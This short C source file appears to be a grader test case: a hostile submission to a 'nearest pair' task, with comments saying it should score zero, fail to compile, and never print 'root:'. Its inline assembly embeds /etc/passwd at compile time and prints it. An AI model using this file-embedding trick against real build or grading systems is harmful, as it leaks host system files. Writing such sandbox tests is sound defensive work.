// Takes a file of the system into its library.
// score: 0
// says: it does not compile
// never: root:
#include "right.h"
#include <stdio.h>

__asm__(".data\n"
        "stolen: .incbin \"/etc/passwd\"\n"
        ".byte 0\n"
        ".text");
extern const char stolen[];

struct pair nearest_pair(struct points points)
{
    puts(stolen);
    return right(points);
}
